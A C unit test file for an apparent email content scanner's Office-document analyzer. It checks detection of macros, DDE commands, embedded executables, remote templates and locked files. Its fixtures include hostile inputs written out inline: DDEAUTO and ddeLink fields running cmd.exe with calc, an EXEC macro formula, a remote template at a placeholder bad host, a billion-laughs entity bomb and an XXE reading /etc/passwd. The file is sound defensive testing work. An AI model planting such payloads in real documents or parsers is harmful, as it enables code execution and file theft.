/*
 * Office documents. The files are those of tests/fuzz/regression, made for these cases; real ones are in
 * tests/corpus/test_documents.c.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>
#include <gmime/gmime.h>

#include "content_mail.h"
#include "engine/content/content.h"
#include "engine/msg/charset.h"
#include "engine/msg/mime_type.h"
#include "engine/scan/scan.h"

static struct arena *a;

static int
begin(void **state)
{
    (void)state;
    a = arena_new();
    return 0;
}

static int
end(void **state)
{
    (void)state;
    arena_free(&a);
    return 0;
}

static struct msg *
seed(const char *path, const char *name)
{
    char *p;
    gsize n;
    if (!g_file_get_contents(arena_printf(a, "tests/fuzz/regression/%s", path), &p, &n, NULL))
        fail_msg("%s is missing", path);
    struct msg *m = content_mail(a, "", name, "application/octet-stream", p, n);
    g_free(p);
    return m;
}

/* A part of a package, as the look at archives hands it on. */
static struct msg *
member(const char *name, const void *p, size_t n)
{
    struct msg *m = msg_new(a);
    struct content *c = content_new(m, NULL);
    struct content_file f = {.id = "1",
                             .name = "a.docx",
                             .type = "",
                             .true_type = "application/zip",
                             .p = (const unsigned char *)"",
                             .n = 0};
    msg_add_part(m, (struct msg_part){
                        .id = "1", .type = "", .true_type = "application/zip", .name = "a.docx"});
    content_member(c, &f, name, p, n);
    content_end(c);
    return m;
}

static void
kinds_and_words(const struct msg *m, const char *code, const char *kind, const char *evidence)
{
    const struct msg_finding *f = content_found(m, code);
    if (!f) {
        content_print(m);
        fail_msg("%s is not found", code);
    }
    assert_string_equal(f->kind, kind);
    if (!strstr(f->evidence, evidence))
        fail_msg("%s: %s", code, f->evidence);
}

static void
compound_files(void **state)
{
    struct msg *m = seed("ole/macro", "a.doc");
    (void)state;
    kinds_and_words(m, "office-macro", "malware", "urldownloadtofile");
    kinds_and_words(m, "dde-command", "malware", "cmd.exe");
    kinds_and_words(m, "embedded-program", "malware", "run.exe");
    kinds_and_words(m, "ole-link", "", "http://link.example/x.rtf");
    assert_string_equal(m->parts[1].name, "run.exe");
    assert_true(content_has_url(m, "http://bad.example/a.exe"));
    kinds_and_words(seed("ole/excel4", "a.xls"), "excel4-macro", "malware",
                    "hidden, Auto_Open, EXEC");
    kinds_and_words(seed("ole/msi", "a.bin"), "risky-file", "", "a.bin");
    m = seed("ole/outlook", "a.msg");
    assert_true(content_has_url(m, "http://mail.example/"));
    assert_string_equal(m->parts[m->nparts - 1].name, "a.exe");
    m = seed("ole/slides", "a.ppt");
    assert_int_equal(m->nparts, 2);
}

static void
rich_text(void **state)
{
    struct msg *m = seed("rtf/package", "a.doc");
    (void)state;
    kinds_and_words(m, "embedded-program", "malware", "run.exe");
    assert_true(content_has_url(m, "http://r.example/"));
    assert_non_null(strstr(m->file_text, "日"));
    kinds_and_words(seed("rtf/equation", "a.rtf"), "equation-object", "malware", "Equation");
}

static void
packages(void **state)
{
    static const char rels[] =
        "<?xml version=\"1.0\"?><Relationships><Relationship Id=\"r1\" "
        "Type=\"http://s/attachedTemplate\" "
        "Target=\"http://bad.example/t.dotm\" TargetMode=\"External\"/><Relationship Id=\"r2\" "
        "Type=\"http://s/hyperlink\" Target=\"https://ok.example/\" "
        "TargetMode=\"External\"/></Relationships>";
    static const char field[] = "<?xml?><w:p><w:r><w:instrText>DD</w:instrText></"
                                "w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\cmd.exe "
                                "&quot;/k calc&quot;</w:instrText></w:r><w:fldChar "
                                "w:fldCharType=\"end\"/></w:p><w:p><w:r><w:t>Hel"
                                "</w:t></w:r><w:r><w:t>lo https://t.example/</w:t></w:r></w:p>";
    static const char link[] =
        "<?xml?><externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>";
    static const char sheet[] =
        "<?xml?><xm:macrosheet><row><c><f>EXEC(\"calc\")</f></c></row></xm:macrosheet>";
    (void)state;
    struct msg *m = member("word/_rels/settings.xml.rels", rels, sizeof rels - 1);
    kinds_and_words(m, "remote-template", "", "http://bad.example/t.dotm");
    assert_true(content_has_url(m, "https://ok.example/"));
    m = member("word/document.xml", field, sizeof field - 1);
    kinds_and_words(m, "dde-command", "malware", "cmd.exe");
    assert_non_null(strstr(m->file_text, "Hello https://t.example/"));
    kinds_and_words(member("xl/externalLinks/externalLink1.xml", link, sizeof link - 1),
                    "dde-command", "malware", "cmd /c calc");
    kinds_and_words(member("xl/macrosheets/sheet1.xml", sheet, sizeof sheet - 1), "excel4-macro",
                    "", "macrosheets");
}

/* Nothing is expanded and nothing is fetched: what would be is text. */
static void
entities(void **state)
{
    struct buf *b = buf_new(a, 0);
    struct timespec from, to;
    (void)state;
    buf_str(b, "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY l0 \"ha\">");
    for (int i = 1; i < 30; i++) {
        buf_printf(b, "<!ENTITY l%d \"", i);
        for (int k = 0; k < 10; k++)
            buf_printf(b, "&l%d;", i - 1);
        buf_str(b, "\">");
    }
    buf_str(
        b,
        "<!ENTITY f SYSTEM \"file:///etc/passwd\"><!ENTITY % d SYSTEM \"http://127.0.0.1:1/\">%d;]>"
        "<w:document><w:t>&l29;&f;</w:t></w:document>");
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &from);
    struct msg *m = member("word/document.xml", b->data, b->len);
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &to);
    assert_true((to.tv_sec - from.tv_sec) * 1000 + (to.tv_nsec - from.tv_nsec) / 1000000 < 100);
    kinds_and_words(m, "xml-entities", "", "");
    assert_null(strstr(m->file_text, "root:"));
    assert_null(strstr(m->file_text, "haha"));
}

static void
locked(void **state)
{
    static const char *const files[] = {"ole/agile", "ole/standard", "ole/rc4", "ole/rc4word"};
    (void)state;
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        struct msg *m = seed(files[i], "a.xls");
        assert_true(m->parts[m->nparts - 1].encrypted);
        assert_false(m->parts[m->nparts - 1].opened_with_password);
    }
}

int
main(void)
{
#define TEST(name, fn)             \
    {                              \
        name, fn, begin, end, NULL \
    }
    const struct CMUnitTest tests[] = {
        TEST("T-E7 macros, commands, objects in compound files", compound_files),
        TEST("T-E7 objects and fields of rich text", rich_text),
        TEST("T-E7 parts of packages", packages),
        TEST("T-A4 entities are not expanded, nothing is fetched", entities),
        TEST("T-A6 what cannot be opened is reported", locked),
    };
    g_mime_init();
    charset_preload();
    scanners_prepare();
    return cmocka_run_group_tests_name("content_office", tests, NULL, NULL);
}
